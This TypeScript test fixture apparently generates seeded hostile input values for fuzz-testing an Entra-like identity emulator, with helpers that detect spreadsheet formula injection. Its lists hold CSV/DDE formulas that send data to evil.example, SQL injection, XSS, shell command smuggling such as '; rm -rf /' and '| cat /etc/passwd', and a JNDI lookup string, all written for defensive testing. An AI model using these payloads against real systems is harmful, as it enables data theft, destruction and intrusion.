// Values that break software: what people, attackers and other systems put into names, cards and attributes. Seeded.
import { createRandom, type Random } from '../../src/emulator/random.ts'

export interface HostileValue {
  readonly kind: HostileKind
  /** As Entra gives it: outer white space and broken characters included. */
  readonly value: string
}

type Maker = (random: Random) => string

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'] as const
const BEFORE_FORMULA = ['', '', '', ' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u0001', '\u202e', '\u3164', "'", '"']
const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"x")',
  'SUM(A1:A9)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"!A0")',
  '2+3+cmd',
  'WEBSERVICE("https://evil.example")',
  '@SUM(1)',
] as const
const PLAIN = ['Ann', 'Černá', 'O’Brien', '山田', 'Нина', 'عمر', 'João', 'Grüß', 'x', '7'] as const
const BIDI = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
]
const INVISIBLE = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u00ad',
  '\u180e',
  '\u034f',
  '\u2800',
  '\u115f',
  '\u{e0041}',
]
const EMOJI = ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏽', '🇨🇿', '🧑🏿‍🚀', '\u{1f9d1}\u200d', '0️⃣', '\u{10ffff}', '𝒜', '𠜎']
const ACCENTS = ['\u0301', '\u0308', '\u0327', '\u0489', '\u20dd', '\u0345', '\u0f71', '\u3099', '\u1abe']
const FOLDING = [
  'İ',
  'ı',
  'ſ',
  '\u212a',
  'ß',
  'ẞ',
  'ς',
  'Σ',
  'ŉ',
  'ǰ',
  'ΐ',
  'ﬃ',
  'Ω',
  'Å',
  'ǅ',
  '½',
  '①',
  'ﷺ',
  '㍿',
  'Ꭰ',
  'ꭰ',
]
const SURROGATES = ['\ud800', '\udc00', '\udbff', '\udfff', '\ude00\ud83d']
const CONTROL = ['\u0001', '\u0007', '\b', '\u000b', '\f', '\u001b', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029']

const MAKERS = {
  nul: (r) => insert(r, r.pick(PLAIN).repeat(2), '\0'),
  surrogate: (r) => insert(r, r.pick(PLAIN).repeat(2), r.pick(SURROGATES)),
  replacement: (r) => insert(r, r.pick(PLAIN), '\ufffd'),
  bidi: (r) => insert(r, `${r.pick(PLAIN)}gpj.exe`, r.pick(BIDI)),
  invisible: (r) => insert(r, r.pick(PLAIN).repeat(2), r.pick(INVISIBLE)),
  homoglyph: (r) => swap(r, 'administrator', 'аdmіnistrаtor\u03bf'),
  emoji: (r) => r.pick(EMOJI) + r.pick(PLAIN) + r.pick(EMOJI),
  combining: (r) => `${r.pick(PLAIN)}${Array.from({ length: 1 + r.int(40) }, () => r.pick(ACCENTS)).join('')}`,
  folding: (r) => Array.from({ length: 1 + r.int(8) }, () => r.pick(FOLDING)).join(''),
  lines: (r) => r.pick(PLAIN) + r.pick(['\r\n', '\n', '\r', '\n\n', '\r\r\n', '\u2028', '\u0085']) + r.pick(PLAIN),
  control: (r) => insert(r, r.pick(PLAIN).repeat(2), r.pick(CONTROL)),
  blank: (r) => r.pick(['', ' ', '\t', '\u00a0', '\u3000', '\r\n', '\ufeff', ' \u2003\u2009 ', '\u200b']),
  padded: (r) => `${r.pick([' ', '\t', '\u00a0', '\r\n', '\u3000'])}${r.pick(PLAIN)}${r.pick([' ', '\n', '\u2003'])}`,
  formula: (r) => `${r.pick(BEFORE_FORMULA)}${r.pick(FORMULA_STARTS)}${r.pick(FORMULAS)}`,
  formulaInside: (r) => `${r.pick(PLAIN)}${r.pick([';', ',', '\n', '"\n', '\r\n', '";', '\\;'])}=${r.pick(FORMULAS)}`,
  number: (r) =>
    r.pick([
      '1.16E+20',
      '1e5',
      '007',
      '00012345678',
      '0x1F',
      '-0',
      '1,5',
      '1.000',
      'NaN',
      'Infinity',
      '٣',
      '½',
      '1E400',
      '#N/A',
    ]) + r.pick(['', '', '0']),
  digits: (r) => Array.from({ length: 10 + r.int(60) }, () => r.int(10)).join(''),
  date: (r) =>
    r.pick([
      '2024-01-01',
      '1/2',
      '1-2',
      'MAR1',
      'SEPT2',
      '01.02.2024',
      '12:30',
      '2024-01-01T00:00:00Z',
      '3/2024',
      'TRUE',
      'false',
      'null',
    ]),
  sql: (r) =>
    r.pick([
      "'; drop table users; --",
      "' or '1'='1",
      '$$; select pg_sleep(9); $$',
      '%',
      '_%',
      "\\'; --",
      'E\\\\x00',
      ':name',
      '$1',
      '?',
    ]),
  html: (r) =>
    r.pick([
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg/onload=alert(1)>',
      '&lt;b&gt;',
      '</textarea>',
      'javascript:alert(1)',
      '<!--',
    ]),
  shell: (r) =>
    r.pick([
      '$(reboot)',
      '`id`',
      '; rm -rf /',
      '| cat /etc/passwd',
      '&& calc',
      '%COMSPEC%',
      '../../etc/passwd',
      'C:\\Windows\\',
      '\\\\server\\share\\',
      'CON',
      '-rf',
    ]),
  template: (r) =>
    r.pick([
      '{{7*7}}',
      '${7*7}',
      '#{7*7}',
      '<%= 7*7 %>',
      '%s%n',
      '%1$s',
      '{0}',
      '%displayName%',
      '${jndi:ldap://x}',
      '{{constructor.constructor("x")()}}',
      '$&',
      "$'",
      '$1',
    ]),
  csv: (r) =>
    Array.from({ length: 1 + r.int(6) }, () =>
      r.pick([';', '\\', '"', ',', '|', "'", '\\;', '""', '\\\\', 'a', '\n', '\r\n', '\t']),
    ).join(''),
  copy: (r) =>
    r.pick([
      '\\N',
      '\\.',
      '\\n',
      '\\x41',
      '\\\\',
      '{a,b}',
      '{}',
      '[]',
      '{"a":1}',
      '"',
      '\\u0000',
      '\\ud800',
      '(1,2)',
      'NULL',
    ]),
  ansi: (r) => `\u001b[${r.pick(['31m', '2J', '1A', '0K', ']0;x\u0007', '?25l'])}${r.pick(PLAIN)}\u001b[0m`,
  prototype: (r) =>
    r.pick([
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '__defineGetter__',
      'undefined',
      'then',
    ]),
  // One character on either side of what names, canonical forms and texts may have.
  long: (r) =>
    r
      .pick(['a', 'é', '😀', 'ﷺ', 'ΐ', '\\', '"', '='])
      .repeat(r.pick([42, 43, 128, 255, 256, 257, 300, 5000, 9999, 10_000, 10_001])),
  tenKilobytes: (r) => Array.from({ length: 10_240 }, () => r.pick(['a', 'b', ' ', ';', '"', 'é', '\n'])).join(''),
} as const satisfies Readonly<Record<string, Maker>>

export type HostileKind = keyof typeof MAKERS
// The keys of the object above, which TypeScript does not tell.
// oxlint-disable-next-line typescript/no-unsafe-type-assertion
const HOSTILE_KINDS = Object.keys(MAKERS) as readonly HostileKind[]

/** The same values for the same seed; every kind about as often, except the largest. */
export function hostileValues(seed: number, count: number): HostileValue[] {
  const random = createRandom(seed)
  return Array.from({ length: count }, (_, n) => {
    const kind = HOSTILE_KINDS[n % HOSTILE_KINDS.length] ?? 'csv'
    const isRare = kind === 'tenKilobytes' && random.int(8) > 0
    const chosen = isRare ? 'csv' : kind
    return { kind: chosen, value: MAKERS[chosen](random) }
  })
}

function insert(random: Random, text: string, what: string): string {
  const at = random.int(text.length + 1)
  return text.slice(0, at) + what + text.slice(at)
}

/** Some characters of one text replaced by those of another at the same places. */
function swap(random: Random, text: string, by: string): string {
  const substitutes = Array.from(by)
  return Array.from(text)
    .map((char, n) => (random.int(2) === 0 ? char : (substitutes[n] ?? char)))
    .join('')
}

/**
 * What a spreadsheet would run, judged apart from the code that prevents it: the first character that is not white space,
 * control or formatting begins a formula in the ASCII or a compatibility width, or the cell begins with tab, CR or LF.
 */
export function wouldRun(cell: string): boolean {
  if (/^[\t\r\n\0]/.test(cell)) return true
  const first = Array.from(cell).find((char) => !/[\p{White_Space}\p{Cc}\p{Cf}\u3164]/u.test(char))
  if (first === undefined) return false
  const narrow = /[\uff00-\uffef\ufe50-\ufe6f]/.test(first) ? first.normalize('NFKC') : first
  return ['=', '+', '-', '@'].includes(narrow)
}

/** Reads a cell that was written with a protecting apostrophe. */
export function unprotected(cell: string): string {
  return cell.startsWith("'") && wouldRun(cell.replace(/^'+/, '')) ? cell.slice(1) : cell
}

/** Reads several values out of one cell: of n backslashes before a `;` or the end half are meant; an odd n keeps the `;`. */
export function splitValues(cell: string): string[] {
  if (cell === '') return []
  const values: string[] = []
  let value = ''
  let backslashes = 0
  for (const char of `${cell};`) {
    if (char === '\\') {
      backslashes += 1
      continue
    }
    if (char !== ';') {
      value += '\\'.repeat(backslashes) + char
      backslashes = 0
      continue
    }
    value += '\\'.repeat(Math.floor(backslashes / 2))
    if (backslashes % 2 === 1) value += ';'
    else {
      values.push(value)
      value = ''
    }
    backslashes = 0
  }
  return values
}
